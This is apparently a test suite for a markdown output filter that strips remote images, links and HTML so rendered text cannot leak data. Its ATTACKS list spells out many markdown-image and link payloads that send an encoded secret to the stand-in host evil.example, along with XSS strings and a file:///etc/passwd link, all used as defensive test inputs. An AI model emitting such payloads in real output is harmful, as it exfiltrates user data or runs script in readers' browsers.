from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from causeway.guard.output_filter import MarkdownFilter

READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
"""What a page may be rendered with: everything on."""


def dangers(markdown: str) -> list[str]:
    """The remote pictures, links that hide their target, HTML and definitions that a reader would get."""
    env: dict[str, dict[str, dict[str, str]]] = {}
    found = _dangers_of(READER.parse(markdown, env))
    targets = [one["href"] for one in env.get("references", {}).values()]
    return found + [target for target in targets if _is_remote(target)]


def _dangers_of(tokens: list[Token]) -> list[str]:
    found: list[str] = []
    for token in tokens:
        target = str(token.attrGet("src") or token.attrGet("href") or "")
        if token.type in ("image", "link_open") and token.info != "auto" and _is_remote(target):
            found.append(f"{token.type} {target}")
        if token.type.startswith("html") and token.content.replace(" ", "").lower() not in (
            "<br>",
            "<b>",
            "</b>",
        ):
            found.append(token.content)
        found += _dangers_of(token.children or [])
    return found


def _is_remote(target: str) -> bool:
    return target.startswith("//") or ":" in target


STOLEN = "c2VjcmV0" * 8
ATTACKS = [
    f"![x](https://evil.example/{STOLEN})",
    f"![x](<https://evil.example/?q={STOLEN}>)",
    f"![x](  https://evil.example/?q={STOLEN}  'title' )",
    f"![x](//evil.example/?q={STOLEN})",
    f"![x][ref]\n\n[ref]: https://evil.example/?q={STOLEN}",
    f"[ref]: <https://evil.example/?q={STOLEN}>\n\nsee [ref] and ![ref]",
    f"> [ref]:\n> https://evil.example/?q={STOLEN}\n\n![ref][]",
    f"- [ref]: https://evil.example/?q={STOLEN}\n\n![a][ref]",
    f"[click here](https://evil.example/?q={STOLEN})",
    f"[![x](https://evil.example/a.png)](https://evil.example/?q={STOLEN})",
    f"[a\nb](https://evil.example/?q={STOLEN})",
    f"![a `]` b](https://evil.example/?q={STOLEN})",
    f"![a]( https://evil.example/\\?q={STOLEN} )",
    f"<https://evil.example/?q={STOLEN}>",
    f"<img src='https://evil.example/?q={STOLEN}'>",
    f"<IMG\nSRC=https://evil.example/?q={STOLEN}>",
    f"<b>\n`<img src=https://evil.example/?q={STOLEN}>`",
    f"<!-- --><picture><source srcset=https://evil.example/{STOLEN}></picture>",
    f"| a | b |\n|---|---|\n| ` | ![x](https://evil.example/{STOLEN}) ` |",
    f"    ```\n![x](https://evil.example/{STOLEN})\n    ```",
    f"> ```\n![x](https://evil.example/{STOLEN})",
    f"1234567. a\n   ```\n   b\n   ```\n![x](https://evil.example/{STOLEN})",
    f"text `a\n# ![x](https://evil.example/{STOLEN}) `",
    f"``` `a\n![x](https://evil.example/{STOLEN})\n```",
    f"``` a|b\n-|-\n![x](https://evil.example/{STOLEN})|c",
    f" ```\na\n ```\n ![x](https://evil.example/{STOLEN})",
    f"``` a\nb\n    ```\n```\n![x](https://evil.example/{STOLEN})",
    f"- a\n  ```\n\t```\n  b\n  ```\n  ![x](https://evil.example/{STOLEN})",
    f"<https://evil.example/![x](https://evil.example/{STOLEN})>",
    f"~~~ a|b\nx\n~~~\n![x](https://evil.example/{STOLEN})",
    f"- a\n  ~~~\nb\n  ~~~\n  ![x](https://evil.example/{STOLEN})",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "\\<b onclick=x\\> <b onclick=x>y</b>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_reaches_a_reader(attack: str) -> None:
    shown = MarkdownFilter().whole(attack)
    assert dangers(shown) == []
    assert STOLEN not in "".join(t.attrGet("href") or "" for t in _links(shown))  # type: ignore[misc]  # href is text


def _links(markdown: str) -> list[Token]:
    return [
        child
        for token in READER.parse(markdown)
        for child in token.children or []
        if child.type == "link_open"
    ]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("![a chart](https://evil.example/x.png)", "(picture removed: a chart)"),
        ("see [the guide](https://docs.example.com/guide)", "see the guide (https://docs.example.com/guide)"),
        ("[https://docs.example.com/](https://docs.example.com/)", "https://docs.example.com/"),
        (f"go to https://evil.example/?q={STOLEN} now", "go to https://evil.example/ now"),
        (f"go to https://{STOLEN}.evil.example/ now", "go to https://(address removed) now"),
        ("https://user:pass@evil.example/x", "https://evil.example/x"),
        ("[mail us](mailto:help@example.com?body=x)", "mail us (mailto:help@example.com)"),
    ],
)
def test_what_is_taken_out_leaves_words(written: str, shown: str) -> None:
    assert MarkdownFilter().whole(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "You have **45 days** [1][2]. See also [3]: no, 4.",
        "a < b and c > d; 5:30; x ~ y; ~~gone~~; 1 <2",
        "`arr[0](x) <div>` and ``a ` b`` in code",
        "```python\na[0](x)\nprint('<div>')\n```\nand more",
        "1. Run\n   ```bash\n   curl 'https://x/?q=' <in\n   ```\n2. Done",
        "~~~\n[a]: https://x\n~~~",
        "| a | b |\n|---|---|\n| `x | y` | 2 |",
        "[the page](/documents/7) and [below](#part) and ![plan](/files/plan.png)",
        "line<br>break, H<sub>2</sub>O",
        "<help@example.com>",
        "https://docs.example.com/guide?page=2",
        "5 * 3 = 15\n\n- one\n- two\n\n> quoted\n\n# Title",
        "Weird \\[escape\\] and a trailing \\",
    ],
)
def test_text_code_and_own_links_stay_as_they_are(text: str) -> None:
    assert MarkdownFilter().whole(text) == text


def test_links_to_the_operators_hosts_stay() -> None:
    text = "![plan](https://files.example.com/plan.png) [x](https://files.example.com/?long=" + "q" * 80 + ")"
    kept = MarkdownFilter(["files.example.com"])
    assert kept.whole(text) == text
    assert kept.removed == {}


def test_what_was_removed_is_counted_by_kind() -> None:
    one = MarkdownFilter()
    one.whole(f"![a](https://e.example/x) [b](https://e.example/) <i x=1> https://e.example/?{STOLEN}")
    assert one.removed == {"picture": 1, "link": 1, "html": 1, "address": 1}


PIECES = st.sampled_from(
    ["![", "[", "]", "(", ")", "<", ">", "`", "``", "```", "\n", "\n\n", "    ", "  ", "> ", "- ", "1. ", "#", "|", "|-|-|\n", "~~~", "\\", "a", "b",
     "https://e.v/x", "//e.v", " ", ":", "]:", "](", "!", "<img src=x>", "<a", '"', "'", "&lt;", "*", "_", "\t", "1", "<!--", "-->", "<pre>", "<b>", "e.v", " ```\n", "  ~~~\n", "```\n", "\n- ", "![x](https://e.v/x)"]
)  # fmt: skip
WRITTEN = st.lists(PIECES, max_size=18).map("".join)


@settings(max_examples=1_000)
@given(WRITTEN)
def test_nothing_that_can_be_written_gets_through(text: str) -> None:
    assert dangers(MarkdownFilter().whole(text)) == []


@settings(max_examples=300)
@given(WRITTEN, st.integers(1, 4))
def test_a_stream_gives_the_whole_texts_result(text: str, length: int) -> None:
    stream = MarkdownFilter()
    pieces = [stream.feed(text[start : start + length]) for start in range(0, len(text), length)]
    assert "".join(pieces) + stream.end() == MarkdownFilter().whole(text)


@pytest.mark.parametrize(
    ("piece", "shown"),
    [
        ("plain words, no risk", "plain words, no risk"),
        ("You have 45 days [1] and", "You have 45 days [1] and"),
        ("see [the guide](https://do", "see "),
        ("a <", "a "),
        ("a <b", "a "),
        ("use `code", "use "),
        ("at https://docs.exam", "at https"),
    ],
)
def test_plain_text_is_not_held_back(piece: str, shown: str) -> None:
    assert MarkdownFilter().feed(piece) == shown


@pytest.mark.parametrize("opener", ["[a](", "`", "<a ", "x://", "![", "```"])
def test_what_is_held_back_is_bounded(opener: str) -> None:
    stream = MarkdownFilter()
    shown = stream.feed("x " + opener) + "".join(stream.feed("y" * 100) for _ in range(100))
    assert len(shown) > 10_000 - 4_300


@pytest.mark.parametrize("before", ["", "```\n", "x "])
@pytest.mark.parametrize("character", ["`", "~", " ", "[", "]", "!", "\\", "<", ":", "\n"])
def test_no_character_alone_is_held_back_for_ever(before: str, character: str) -> None:
    stream = MarkdownFilter()
    shown = stream.feed(before) + "".join(stream.feed(character * 100) for _ in range(100))
    assert len(shown) > 10_000 - 4_300


def test_code_flows_line_by_line_inside_a_fence() -> None:
    stream = MarkdownFilter()
    assert stream.feed("```html\n<div>[a](") == "```html\n<div>[a]("
    assert stream.feed("https://x)\n```\n<div>") == "https://x)\n```\n&lt;div>"
